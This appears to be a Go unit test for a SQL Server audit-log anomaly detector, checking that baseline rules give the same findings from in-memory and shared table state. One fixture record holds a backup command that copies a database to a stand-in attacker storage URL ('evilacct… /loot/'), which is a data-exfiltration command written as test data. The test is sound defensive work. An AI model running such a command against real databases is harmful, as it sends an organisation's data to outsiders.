package store

import (
	"context"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel/audit"
)

// TestBaselinesOnTableState: the baselines (BAS-001..004) keep their
// sightings, row peaks and learning starts in the table as in memory
// (the same findings, the same ids), across two instances sharing the
// table, and a second pass over the same records on that table reports
// only ids the first pass reported.
func TestBaselinesOnTableState(t *testing.T) {
	cfg := detect.DefaultConfig()
	const day = 24 * time.Hour
	var recs []audit.Record
	add := func(r audit.Record, opts ...func(*audit.Record)) {
		r.AuditFileOffset = int64(4096 * (len(recs) + 1))
		r.FileName = fmt.Sprintf("sql01/Sales/audit/%s.xel", r.EventTime.Format("2006-01-02"))
		r.ClientIP, r.ApplicationName = "10.0.0.5", "OrdersService"
		for _, o := range opts {
			o(&r)
		}
		recs = append(recs, r)
	}
	for d := range 9 {
		at := time.Duration(d) * day
		add(recordFor("LGIS", "LX", "", at, 0))
		add(recordFor("BCM", "", "SELECT * FROM dbo.Orders", at+time.Minute, 0), func(r *audit.Record) { r.ResponseRows = int64(100 + 10*d) })
		add(recordFor("BA", "DB", "BACKUP LOG s TO URL = 'https://backupacct.blob.core.windows.net/sql/s.trn'", at+time.Hour, 0))
	}
	at := 9 * day
	add(recordFor("LGIS", "LX", "", at, 0), func(r *audit.Record) { r.ServerPrincipalName, r.SessionServerPrincipalName = "eve", "eve" })
	add(recordFor("LGIS", "LX", "", at+time.Minute, 0), func(r *audit.Record) { r.ClientIP, r.ApplicationName = "203.0.113.9", "sqlcmd" })
	add(recordFor("BCM", "", "SELECT * FROM dbo.Customers", at+2*time.Minute, 0), func(r *audit.Record) { r.ResponseRows = 2_000_000 })
	add(recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evilacct.blob.core.windows.net/loot/s.bak'", at+time.Hour, 0))

	pass := func(states ...detect.State) []string {
		var engines []*detect.Engine
		for _, st := range states {
			e, err := detect.New(cfg, st)
			if err != nil {
				t.Fatal(err)
			}
			engines = append(engines, e)
		}
		var out []string
		for i := range recs {
			d := engines[i%len(engines)].Deferred() // one record per batch, instances in turn
			fs, err := d.Evaluate(context.Background(), &recs[i])
			if err != nil {
				t.Fatal(err)
			}
			if err := d.Commit(context.Background()); err != nil {
				t.Fatal(err)
			}
			for _, f := range fs {
				out = append(out, f.Rule+":"+f.DetectionID)
			}
		}
		slices.Sort(out)
		return out
	}
	inMemory := pass(detect.NewMemoryState())
	var rules []string
	for _, id := range inMemory {
		rules = append(rules, id[:7])
	}
	for _, want := range []string{"BAS-001", "BAS-002", "BAS-003", "BAS-004"} {
		if !slices.Contains(rules, want) {
			t.Fatalf("in memory: findings %q, want one of %s", inMemory, want)
		}
	}
	f := newFakeTable()
	if got := pass(NewState(f, nil), NewState(f, nil)); !slices.Equal(got, inMemory) {
		t.Errorf("on the table = %q, want %q", got, inMemory)
	}
	for _, id := range pass(NewState(f, nil)) {
		if !slices.Contains(inMemory, id) {
			t.Errorf("second pass on the table reported %s, which the first did not", id)
		}
	}
}
